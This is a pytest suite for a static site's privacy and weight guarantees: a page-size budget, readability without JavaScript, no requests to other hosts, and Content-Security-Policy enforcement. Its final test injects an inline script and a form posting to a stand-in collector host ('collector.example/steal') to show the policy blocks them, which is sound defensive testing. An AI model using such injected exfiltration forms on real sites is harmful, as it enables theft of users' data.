"""Weight and privacy: a light article page that works without JavaScript and
asks nothing of any host but the site's own."""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pytest
from conftest import BuiltSite, ServedSite

# HTML + stylesheets + fonts of one article page, uncompressed.
ARTICLE_BUDGET_BYTES = 40_000
CSS_URL = re.compile(r"""url\(\s*['"]?([^'")]+)['"]?\s*\)""")
CSS_IMPORT = re.compile(r"""@import\s+(?:url\()?\s*['"]?([^'")\s;]+)""")


def local_file(site: BuiltSite, page_path: str, href: str) -> Path:
    """The built file a link on ``page_path`` points at (relative or site-absolute)."""
    url = urljoin(f"http://site/{page_path}", href)
    assert urlsplit(url).netloc == "site", f"{page_path} links {href} on another host"
    return site.root / urlsplit(url).path.lstrip("/")


def page_weight(site: BuiltSite, page_path: str) -> dict[str, int]:
    """Bytes of the page's HTML, each stylesheet it links (and imports) and each font those load."""
    html_file = site.root / page_path / "index.html"
    sizes = {str(html_file.relative_to(site.root)): html_file.stat().st_size}
    soup = site.page(page_path)
    stylesheets = [local_file(site, page_path, link["href"]) for link in soup.select('link[rel~="stylesheet"]')]
    fonts = [local_file(site, page_path, link["href"]) for link in soup.select('link[rel~="preload"][as="font"]')]
    while stylesheets:
        sheet = stylesheets.pop()
        relative = str(sheet.relative_to(site.root))
        if relative in sizes:
            continue
        sizes[relative] = sheet.stat().st_size
        css = sheet.read_text(encoding="utf-8")
        sheet_path = relative
        stylesheets += [local_file(site, sheet_path, ref) for ref in CSS_IMPORT.findall(css)]
        for ref in CSS_URL.findall(css):
            if re.search(r"\.(woff2?|ttf|otf|eot)(\?|#|$)", ref):
                fonts.append(local_file(site, sheet_path, ref))
    for font in fonts:
        sizes[str(font.relative_to(site.root))] = font.stat().st_size
    return sizes


def test_article_page_html_css_and_fonts_fit_the_budget(site: BuiltSite, quality_pages: dict[str, str]) -> None:
    sizes = page_weight(site, quality_pages["article"])
    total = sum(sizes.values())
    print("\nArticle page weight (uncompressed):")
    for name, size in sizes.items():
        print(f"  {size:>7,} B  {name}")
    print(f"  {total:>7,} B  total (budget {ARTICLE_BUDGET_BYTES:,} B)")
    assert total <= ARTICLE_BUDGET_BYTES


@pytest.mark.browser
def test_pages_are_readable_without_javascript(
    served_site: ServedSite, quality_pages: dict[str, str], site: BuiltSite, browser
) -> None:
    context = browser.new_context(java_script_enabled=False, viewport={"width": 360, "height": 800})
    try:
        page = context.new_page()
        for name, path in quality_pages.items():
            page.goto(served_site.url(path), wait_until="load")
            assert page.locator("h1").first.is_visible(), f"{name}: no visible heading without JavaScript"
            main_text = page.locator("main").inner_text()
            assert len(main_text.split()) >= 10, f"{name}: main content is not readable without JavaScript"
        page.goto(served_site.url(quality_pages["article"]), wait_until="load")
        built = site.page(quality_pages["article"])
        headline = built.select_one("h1").get_text(strip=True)
        first_paragraph = built.select_one("main article p:not(.kicker):not(.dek)")
        assert page.get_by_role("heading", level=1, name=headline).is_visible()
        words = " ".join(first_paragraph.get_text().split()[:8])
        assert page.get_by_text(words).first.is_visible(), f"article body text {words!r} is hidden without JavaScript"
    finally:
        context.close()


@pytest.mark.browser
def test_pages_request_nothing_from_other_hosts(
    served_site: ServedSite, quality_pages: dict[str, str], browser
) -> None:
    foreign: list[str] = []
    broken: list[str] = []
    requested = 0
    # Narrow and light, wide and dark: media queries could pick other images or styles for each.
    for scheme, width in (("light", 360), ("dark", 1280)):
        for name, path in quality_pages.items():
            # A fresh context each time, so that nothing is answered from a cache without a request.
            context = browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme)
            page = context.new_page()
            page_url = served_site.url(path)
            urls: list[str] = []
            page.on("request", lambda request, urls=urls: urls.append(request.url))
            page.on("requestfailed", lambda request, name=name: broken.append(f"{name}: {request.url} failed"))

            def check_status(response, name=name, page_url=page_url) -> None:
                # The 404 page is itself answered with 404; everything it loads must succeed.
                if response.status >= 400 and not (name == "404" and response.url == page_url):
                    broken.append(f"{name}: {response.url} answered {response.status}")

            page.on("response", check_status)
            page.goto(page_url, wait_until="load")
            context.close()
            requested += len(urls)
            foreign += [
                f"{name} ({scheme}, {width}px): {url}"
                for url in urls
                if urlsplit(url).scheme != "data" and urlsplit(url).hostname != "127.0.0.1"
            ]
    print(f"\n{requested} requests from {len(quality_pages)} pages, narrow and light, wide and dark; all checked")
    # Each page asks at least for itself and its stylesheet.
    assert requested >= 2 * 2 * len(quality_pages)
    assert not foreign, "requests to other hosts:\n" + "\n".join(sorted(set(foreign)))
    assert not broken, "requests that failed:\n" + "\n".join(sorted(set(broken)))


# Collects what the page's Content-Security-Policy blocked, from before the page's first byte.
RECORD_VIOLATIONS = """
window.cspViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.cspViolations.push(`${event.violatedDirective} blocked ${event.blockedURI || "inline"}`);
});
"""


def note_policy_message(violations: list[str], name: str, text: str) -> None:
    if "Content Security Policy" in text:
        violations.append(f"{name}: {text}")


@pytest.mark.browser
def test_pages_run_under_their_content_security_policy(
    served_site: ServedSite, quality_pages: dict[str, str], site: BuiltSite, browser
) -> None:
    violations: list[str] = []
    assert quality_pages
    for name, path in quality_pages.items():
        soup = site.page(path) if name != "404" else site.page("404.html")
        policy = soup.head.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
        assert policy is not None, f"{name} has no Content-Security-Policy"
        assert soup.head.find("meta") is soup.head.find("meta", charset=True)
        assert policy.find_previous_sibling("meta") is soup.head.find("meta", charset=True), "the policy is not first"
        context = browser.new_context(viewport={"width": 1280, "height": 800})
        page = context.new_page()
        page.add_init_script(RECORD_VIOLATIONS)
        page.on("console", lambda message, name=name: note_policy_message(violations, name, message.text))
        page.goto(served_site.url(path), wait_until="load")
        violations.extend(f"{name}: {entry}" for entry in page.evaluate("window.cspViolations"))
        context.close()
    assert not violations, "\n".join(violations)


@pytest.mark.browser
def test_the_policy_blocks_script_an_article_could_smuggle_in(
    served_site: ServedSite, quality_pages: dict[str, str], browser
) -> None:
    """The policy is enforced, and a violation would be seen: an inline script and a foreign image are refused."""
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script(RECORD_VIOLATIONS)
    page.goto(served_site.url(quality_pages["article"]), wait_until="load")
    page.evaluate(
        """() => {
        const script = document.createElement("script");
        script.textContent = "window.smuggled = true";
        document.body.append(script);
        const form = document.createElement("form");
        form.action = "https://collector.example/steal";
        form.method = "post";
        document.body.append(form);
        form.requestSubmit();
    }"""
    )
    page.wait_for_timeout(300)
    ran = page.evaluate("window.smuggled === true")
    blocked = page.evaluate("window.cspViolations")
    context.close()
    assert not ran
    assert any(entry.startswith("script-src") and entry.endswith("inline") for entry in blocked), blocked
    assert any(entry.startswith("form-action") and "collector.example" in entry for entry in blocked), blocked
